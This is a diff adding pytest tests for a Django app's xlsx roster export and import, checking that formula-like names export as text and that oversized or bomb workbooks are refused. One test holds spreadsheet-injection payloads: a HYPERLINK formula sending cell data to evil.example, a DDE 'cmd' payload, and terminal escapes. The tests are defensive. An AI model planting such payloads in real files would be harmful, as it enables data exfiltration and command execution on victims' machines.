@@ -7,7 +7,7 @@ from openpyxl import load_workbook
 
 from branches import roster
 from branches.models import Event, Organization
-from tests.branches.xlsx import HEADERS, row, small_roster, upload, workbook_bytes
+from tests.branches.xlsx import HEADERS, inline_row, raw_xlsx, row, small_roster, upload, workbook_bytes
 
 pytestmark = pytest.mark.django_db
 
@@ -117,7 +117,7 @@ def test_a_cycle_through_the_stored_tree_is_refused():
 def test_ten_thousand_rows_are_refused_with_the_limit_named():
     rows = [row(f"B{n}", f"党支部{n}", parent="U1") for n in range(10_000)]
     problems = problems_of(upload(rows))
-    assert problems == [(None, "", "文件共有 10000 行数据，超过单次导入上限 5000 行，请拆分后分批导入")]
+    assert problems == [(None, "", "文件超过单次导入上限 5000 行，请拆分后分批导入")]
     assert nothing_written()
 
 
@@ -198,3 +198,86 @@ def _with_directory_byte(content, member, offset, value):
 def test_a_workbook_with_an_unreadable_member_is_refused_with_a_message(offset, value):
     content = _with_directory_byte(workbook_bytes(small_roster()), "xl/styles.xml", offset, value)
     assert problems_of(upload(content=content, name="名册.xlsx")) == [(None, "", roster.DAMAGED_MESSAGE)]
+
+
+def test_the_export_writes_hostile_names_as_text_and_reimports_unchanged(tree, client_for):
+    from django.urls import reverse
+
+    hostile = {"=HYPERLINK(\"http://evil.example/?\"&A2,\"点此\")": "=HYPERLINK(\"http://evil.example/?\"&A2,\"点此\")",
+               "+cmd|' /C calc'!A0": "+cmd|' /C calc'!A0", "-1+1": "-1+1", "@SUM(A1:A9)": "@SUM(A1:A9)",
+               "响铃\x07转义\x1b[31m党支部": "响铃转义[31m党支部"}
+    branches = [tree.branch_a1, tree.branch_a2, tree.branch_b1, tree.unit_a, tree.unit_b]
+    for organization, name in zip(branches, hostile):
+        Organization.objects.filter(pk=organization.pk).update(name=name, founded_on=datetime.date(2015, 3, 1))
+    response = client_for(tree.staff).get(reverse("branches:roster_export"))
+    assert response.status_code == 200
+    data = b"".join(response.streaming_content)
+    sheet = load_workbook(io.BytesIO(data)).active
+    assert sheet.freeze_panes == "A2" and sheet["A1"].font.b
+    names = {row[1].value: row[1] for row in sheet.iter_rows(min_row=2)}
+    for name in hostile.values():
+        assert names[name].data_type == "s"
+        assert names[name].quotePrefix == (name[0] in "=+-@")
+    founded = next(row[6] for row in sheet.iter_rows(min_row=2) if row[0].value == tree.branch_a1.code)
+    assert founded.is_date and founded.number_format == "yyyy-mm-dd"
+    # The file imports back: the formula-like names unchanged; only the dropped control characters differ.
+    Organization.objects.filter(name__contains="\x07").update(name="响铃转义[31m党支部")
+    result = roster.check(upload(content=data))
+    assert result.ok, result.problems
+    assert roster.apply(result, actor=None)["updated"] == 0
+    assert set(Organization.objects.filter(pk__in=[b.pk for b in branches]).values_list("name", flat=True)) == set(
+        hostile.values())
+
+
+LIMIT_MESSAGE = (None, "", "文件超过单次导入上限 5000 行，请拆分后分批导入")
+
+
+def test_a_hand_built_workbook_imports_like_any_other():
+    rows = [inline_row(1, HEADERS)] + [inline_row(n, values) for n, values in enumerate(small_roster(), start=2)]
+    result = roster.check(upload(content=raw_xlsx(rows)))
+    assert result.ok, result.problems
+    assert len(result.rows) == 4
+
+
+def test_empty_rows_past_the_limit_are_not_read():
+    # The rows after the cap end in broken XML: a reader that went on would report a damaged file.
+    rows = [inline_row(1, HEADERS)] + [f'<row r="{n}"/>' for n in range(2, 5300)]
+    problems = problems_of(upload(content=raw_xlsx(rows, tail="<<<不是XML")))
+    assert problems == [LIMIT_MESSAGE]
+    assert nothing_written()
+
+
+def test_data_rows_past_the_limit_are_refused_without_counting_the_rest(settings):
+    settings.ORG_IMPORT_MAX_ROWS = 3
+    rows = [inline_row(1, HEADERS)] + [inline_row(n, values) for n, values in enumerate(small_roster(), start=2)]
+    problems = problems_of(upload(content=raw_xlsx(rows)))
+    assert problems == [(None, "", "文件超过单次导入上限 3 行，请拆分后分批导入")]
+
+
+def test_a_declared_four_million_rows_are_refused_before_reading():
+    # openpyxl trusts <dimension> and would hand out four million empty rows.
+    data = raw_xlsx([inline_row(1, HEADERS)], dimension="A1:L4000000")
+    assert len(data) < 5000
+    assert problems_of(upload(content=data)) == [LIMIT_MESSAGE]
+
+
+def test_a_row_numbered_past_the_limit_is_refused_before_reading():
+    # Without <dimension>, openpyxl fills the gap up to row 4,000,000 with empty rows.
+    data = raw_xlsx([inline_row(1, HEADERS), '<row r="4000000"/>'])
+    assert problems_of(upload(content=data)) == [LIMIT_MESSAGE]
+
+
+def test_a_declared_width_past_the_limit_is_refused_before_reading():
+    data = raw_xlsx([inline_row(1, HEADERS)], dimension="A1:XFD2")
+    assert problems_of(upload(content=data)) == [(None, "", "文件超过 200 列的上限，请删除多余的列后再导入")]
+
+
+def test_a_shared_strings_bomb_is_refused_by_its_declared_size(settings):
+    # Ten million shared strings took 1 GB: openpyxl loads them all when it opens the file. The cap is
+    # lowered here so the bomb stays small to build; its declared size is what refuses it.
+    settings.ORG_IMPORT_MAX_XML_BYTES = 1024 * 1024
+    bomb = ("<si><t>x</t></si>" * 1000 for _ in range(100))  # 1.7 MB unpacked
+    data = raw_xlsx([inline_row(1, HEADERS)], shared_strings=bomb)
+    assert len(data) < 20_000
+    assert problems_of(upload(content=data)) == [
+        (None, "", "文件解压后的内容超过 1 MB 的上限，请删除多余的工作表、空行和格式后再导入")]
